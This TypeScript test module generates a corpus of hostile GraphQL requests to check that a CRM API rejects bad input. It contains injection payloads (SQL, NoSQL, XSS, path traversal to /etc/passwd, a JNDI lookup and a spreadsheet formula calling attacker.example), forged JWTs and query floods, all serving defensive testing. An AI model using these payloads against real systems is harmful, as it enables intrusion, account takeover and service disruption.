/**
 * A generated corpus of malformed and hostile requests (OWASP API Top 10, GraphQL cheat sheet),
 * built from the API schema so every operation and every argument is covered. Two kinds:
 * - `rejected`: requests that must be refused before anything runs (wrong types, limits, forged
 *   tokens, malformed HTTP); the platform's data must be the same after them;
 * - `hostile`: well-typed requests carrying attack strings in every string argument; they may be
 *   accepted (a name may well be `' OR 1=1 --`) but must never break anything.
 */
import { createSign, generateKeyPairSync } from 'node:crypto';
import { getNamedType, isInputObjectType, isListType, isNonNullType, isScalarType, type GraphQLInputType } from 'graphql';
import { sampleValue, type GeneratedOperation } from './operations.js';

export type Category =
  | 'injection-string'
  | 'wrong-type'
  | 'missing-required'
  | 'unknown-argument'
  | 'deep-query'
  | 'alias-flood'
  | 'directive-flood'
  | 'token-flood'
  | 'cost'
  | 'page-size'
  | 'fragment-cycle'
  | 'huge-variables'
  | 'batched'
  | 'malformed-http'
  | 'bad-token';

export interface CorpusRequest {
  category: Category;
  /** Must be refused with nothing written (see the module comment). */
  mustReject: boolean;
  /** JSON body, or a raw body string (malformed HTTP). */
  body: unknown;
  raw?: boolean;
  method?: 'GET' | 'POST';
  contentType?: string;
  /** `undefined`: the caller's valid token; a string: this Authorization header; null: none. */
  authorization?: string | null;
  /** The operation it was derived from, for the report. */
  operation?: string;
}

export const INJECTION_STRINGS: readonly string[] = [
  "' OR '1'='1' --",
  '{"$gt": ""}',
  '{"$where": "sleep(1000)"}',
  '$ne',
  '<script>alert(document.cookie)</script>',
  '"><img src=x onerror=alert(1)>',
  '../../../../etc/passwd',
  '${jndi:ldap://attacker.example/a}',
  '{{7*7}}${7*7}<%= 7*7 %>',
  '=HYPERLINK("http://attacker.example","x")',
  "'; DROP TABLE customers; --",
  '__proto__',
  'constructor.prototype.polluted',
  'line\r\nX-Injected: header',
  'nul\u0000byte',
  '\u202e\u0644\u0627 RTL 💥 \ud83d\ude00',
  '%00%0d%0a%27%22',
  'A'.repeat(10_000),
  ' ',
  '',
  '-1',
  '9'.repeat(400),
  '0x7fffffff',
  'NaN',
];

/** Every String or ID position among `args` (top-level and inside input objects), as setters on a sample value. */
function stringPaths(type: GraphQLInputType, path: string[], depth = 0): string[][] {
  const named = getNamedType(type);
  if (isScalarType(named)) return named.name === 'String' || named.name === 'ID' ? [path] : [];
  if (isInputObjectType(named) && depth < 4) {
    return Object.values(named.getFields()).flatMap((f) => stringPaths(f.type, [...path, f.name], depth + 1));
  }
  return [];
}

function setAt(root: Record<string, unknown>, path: string[], value: unknown, type: GraphQLInputType): void {
  let target: Record<string, unknown> = root;
  for (const key of path.slice(0, -1)) {
    const next = target[key];
    if (Array.isArray(next)) {
      target = next[0] as Record<string, unknown>;
    } else if (next && typeof next === 'object') {
      target = next as Record<string, unknown>;
    } else {
      target[key] = {};
      target = target[key] as Record<string, unknown>;
    }
  }
  const last = path.at(-1)!;
  target[last] = isListType(type) || (isNonNullType(type) && isListType(type.ofType)) ? [value] : value;
}

/** Every argument of the operation (required ones already in `variables`) as variables, so nested optional strings can be set. */
function withAllArgs(op: GeneratedOperation): { query: string; variables: Record<string, unknown> } {
  const declarations = op.args.map((a) => `$${a.name}: ${a.type.toString()}`).join(', ');
  const call = op.args.length > 0 ? `(${op.args.map((a) => `${a.name}: $${a.name}`).join(', ')})` : '';
  const selection = op.query.endsWith('{ __typename } }') ? ' { __typename }' : '';
  const name = `${op.kind === 'query' ? 'HQ' : 'HM'}_${op.field}`;
  return { query: `${op.kind} ${name}${declarations ? `(${declarations})` : ''} { ${op.field}${call}${selection} }`, variables: { ...op.variables } };
}

function fieldTypeAt(type: GraphQLInputType, path: string[]): GraphQLInputType {
  let current = type;
  for (const key of path) {
    const named = getNamedType(current);
    if (!isInputObjectType(named)) break;
    current = named.getFields()[key]!.type;
  }
  return current;
}

/** Attack strings in every string position of every operation. */
function injectionRequests(operations: GeneratedOperation[], perPosition: number): CorpusRequest[] {
  const out: CorpusRequest[] = [];
  let rotation = 0;
  for (const op of operations) {
    for (const arg of op.args) {
      for (const path of stringPaths(arg.type, [])) {
        for (let i = 0; i < perPosition; i += 1) {
          const payload = INJECTION_STRINGS[(rotation + i) % INJECTION_STRINGS.length]!;
          const { query, variables } = withAllArgs(op);
          if (path.length === 0) {
            variables[arg.name] = isListType(arg.type) || (isNonNullType(arg.type) && isListType(arg.type.ofType)) ? [payload] : payload;
          } else {
            if (variables[arg.name] === undefined) variables[arg.name] = sampleValue(arg.type);
            const holder = Array.isArray(variables[arg.name]) ? (variables[arg.name] as unknown[])[0] : variables[arg.name];
            setAt(holder as Record<string, unknown>, path, payload, fieldTypeAt(arg.type, path));
          }
          out.push({ category: 'injection-string', mustReject: false, body: { query, variables }, operation: op.coordinate });
        }
        rotation += perPosition;
      }
    }
  }
  return out;
}

/** A value of the wrong kind for `type`: validation must refuse it before any resolver runs. */
function wrongValues(type: GraphQLInputType): unknown[] {
  const named = getNamedType(type);
  const values: unknown[] = [{ $gt: '' }, [[[]]]];
  if (isScalarType(named)) {
    if (['Int', 'SafeInt'].includes(named.name)) values.push('1; DROP', 1e300, true);
    else if (named.name === 'Float') values.push('1; DROP', true);
    else if (named.name === 'ID') values.push(false, 1.5);
    else if (named.name === 'Boolean') values.push('true', 0);
    else if (['DateTime', 'Date'].includes(named.name)) values.push('yesterday', 1.5, '2026-13-45');
    else values.push(12, false);
  } else if (isInputObjectType(named)) {
    values.push('a string', 7);
  } else {
    values.push('NOT_A_VALUE', 3);
  }
  if (isNonNullType(type)) values.push(null);
  return values;
}

function wrongTypeRequests(operations: GeneratedOperation[]): CorpusRequest[] {
  const out: CorpusRequest[] = [];
  for (const op of operations) {
    for (const arg of op.args) {
      for (const bad of wrongValues(arg.type)) {
        const { query, variables } = withAllArgs(op);
        variables[arg.name] = bad;
        out.push({ category: 'wrong-type', mustReject: true, body: { query, variables }, operation: op.coordinate });
      }
      // The same wrong values written into the document as literals.
      const literal = op.query.replace(`${arg.name}: $${arg.name}`, `${arg.name}: { nope: true }`);
      if (literal !== op.query) out.push({ category: 'wrong-type', mustReject: true, body: { query: literal, variables: op.variables }, operation: op.coordinate });
    }
    const required = op.args.filter((a) => isNonNullType(a.type) && a.defaultValue === undefined);
    if (required.length > 0) {
      out.push({ category: 'missing-required', mustReject: true, body: { query: op.query, variables: {} }, operation: op.coordinate });
    }
    out.push({ category: 'unknown-argument', mustReject: true, body: { query: op.query.replace(`{ ${op.field}`, `{ ${op.field}(zzUnknown: 1)`).replace(/\)\(/, ', '), variables: op.variables }, operation: op.coordinate });
  }
  return out;
}

function nestedCustomerQuery(depth: number): string {
  let selection = 'id';
  for (let i = 0; i < depth; i += 1) selection = i % 2 === 0 ? `orders { edges { node { ${selection} } } }` : `customer { ${selection} }`;
  return `{ customer(id: "0000000000000000000000ff") { ${selection} } }`;
}

function shapeRequests(): CorpusRequest[] {
  const out: CorpusRequest[] = [];
  const reject = (category: Category, body: unknown, extra: Partial<CorpusRequest> = {}) => out.push({ category, mustReject: true, body, ...extra });
  for (let depth = 5; depth <= 60; depth += 1) reject('deep-query', { query: nestedCustomerQuery(depth) });
  for (let n = 31; n <= 1031; n += 10) reject('alias-flood', { query: `mutation { ${Array.from({ length: n }, (_, i) => `a${i}: deleteCustomer(id: "0000000000000000000000ff")`).join(' ')} }` });
  for (let n = 31; n <= 531; n += 10) reject('alias-flood', { query: `{ ${Array.from({ length: n }, (_, i) => `a${i}: customer(id: "${i}") { id }`).join(' ')} }` });
  for (let n = 21; n <= 521; n += 10) reject('directive-flood', { query: `{ customers { totalCount ${'@include(if: true) '.repeat(n)} } }` });
  for (let n = 3001; n <= 100_001; n += 2000) reject('token-flood', { query: `{ ${'__typename '.repeat(n)} }` });
  for (let n = 2; n <= 60; n += 2) {
    const fields = Array.from({ length: n }, (_, i) => `c${i}: customers(first: 100) { edges { node { id name orders(first: 100) { edges { node { id lines { quantity } } } } } } }`).join(' ');
    reject('cost', { query: `{ ${fields} }` });
  }
  for (const first of [101, 1000, 100_000, 2 ** 31 - 1]) {
    for (const field of ['customers', 'orders', 'products', 'leads', 'opportunities', 'tickets', 'campaigns', 'auditLog', 'userAccounts']) {
      reject('page-size', { query: `{ ${field}(first: ${first}) { __typename } }` });
      reject('page-size', { query: `query($n: Int) { ${field}(first: $n) { __typename } }`, variables: { n: first } });
    }
  }
  for (let i = 0; i < 20; i += 1) {
    reject('fragment-cycle', { query: `{ ...A${i} } fragment A${i} on Query { ...B${i} } fragment B${i} on Query { ...A${i} }` });
    reject('fragment-cycle', { query: `{ customers { ...C${i} } } fragment C${i} on CustomerConnection { ...C${i} }` });
  }
  for (const mb of [2.1, 3, 5, 8]) {
    reject('huge-variables', { query: 'mutation($input: CreateCustomerInput!) { createCustomer(input: $input) { id } }', variables: { input: { name: 'x'.repeat(Math.round(mb * 1024 * 1024)) } } });
  }
  for (let n = 2; n <= 40; n += 2) reject('batched', Array.from({ length: n }, () => ({ query: 'mutation { deleteCustomer(id: "0000000000000000000000ff") { id } }' })));
  const malformed = ['{', '{"query": ', 'null', '"string"', '[]', '{"query": 42}', '{"query": "{ __typename }", "variables": "not an object"}', '{"query": "{ __typename }", "operationName": 7}', '\u0000\u0001', '{"query":"' + '{'.repeat(10_000) + '"}', '{"query": "mutation { deleteCustomer(id: \\"x\\") { id } }", "extensions": {"persistedQuery": {"version": 1, "sha256Hash": "abc"}}}'];
  for (const body of malformed) {
    reject('malformed-http', body, { raw: true });
    reject('malformed-http', body, { raw: true, contentType: 'text/plain' });
  }
  reject('malformed-http', { query: 'mutation { deleteCustomer(id: "0000000000000000000000ff") { id } }' }, { method: 'GET' });
  reject('malformed-http', '', { raw: true, contentType: 'application/x-www-form-urlencoded' });
  return out;
}

const b64 = (value: object) => Buffer.from(JSON.stringify(value)).toString('base64url');

/** Tokens that must never be accepted: forged (own key, alg none, HS256 with the public key trick), expired, garbage. */
export function badAuthorizations(issuer: string): string[] {
  const { privateKey } = generateKeyPairSync('rsa', { modulusLength: 2048 });
  const now = Math.floor(Date.now() / 1000);
  const claims = (extra: object) => ({ iss: issuer, aud: 'crm-api', typ: 'Bearer', sub: 'forged', preferred_username: 'admin', realm_access: { roles: ['admin'] }, exp: now + 300, iat: now, ...extra });
  const signed = (header: object, body: object) => {
    const unsigned = `${b64(header)}.${b64(body)}`;
    return `${unsigned}.${createSign('RSA-SHA256').update(unsigned).sign(privateKey).toString('base64url')}`;
  };
  return [
    `Bearer ${signed({ alg: 'RS256', typ: 'JWT' }, claims({}))}`,
    `Bearer ${signed({ alg: 'RS256', typ: 'JWT', kid: 'made-up' }, claims({}))}`,
    `Bearer ${b64({ alg: 'none', typ: 'JWT' })}.${b64(claims({}))}.`,
    `Bearer ${b64({ alg: 'HS256', typ: 'JWT' })}.${b64(claims({}))}.c2lnbmF0dXJl`,
    `Bearer ${signed({ alg: 'RS256', typ: 'JWT' }, claims({ exp: now - 3600 }))}`,
    `Bearer ${signed({ alg: 'RS256', typ: 'JWT' }, claims({ iss: 'http://evil.example/realms/crm' }))}`,
    'Bearer not.a.token',
    'Bearer ',
    'Basic YWRtaW46Y3JtLWRlbW8tMjAyNg==',
    `Bearer ${'A'.repeat(8000)}`,
    'Bearer a.b.c.d.e',
  ];
}

function badTokenRequests(operations: GeneratedOperation[], issuer: string, perToken: number): CorpusRequest[] {
  const out: CorpusRequest[] = [];
  const tokens = [...badAuthorizations(issuer), null];
  const mutations = operations.filter((o) => o.kind === 'mutation');
  tokens.forEach((authorization, t) => {
    for (let i = 0; i < perToken; i += 1) {
      const op = mutations[(t * perToken + i) % mutations.length]!;
      out.push({ category: 'bad-token', mustReject: true, body: { query: op.query, variables: op.variables }, authorization, operation: op.coordinate });
    }
  });
  return out;
}

export function buildCorpus(operations: GeneratedOperation[], options: { issuer: string; injectionsPerPosition?: number; tokensPerVariant?: number }): CorpusRequest[] {
  return [
    ...wrongTypeRequests(operations),
    ...shapeRequests(),
    ...badTokenRequests(operations, options.issuer, options.tokensPerVariant ?? 60),
    ...injectionRequests(operations, options.injectionsPerPosition ?? 4),
  ];
}
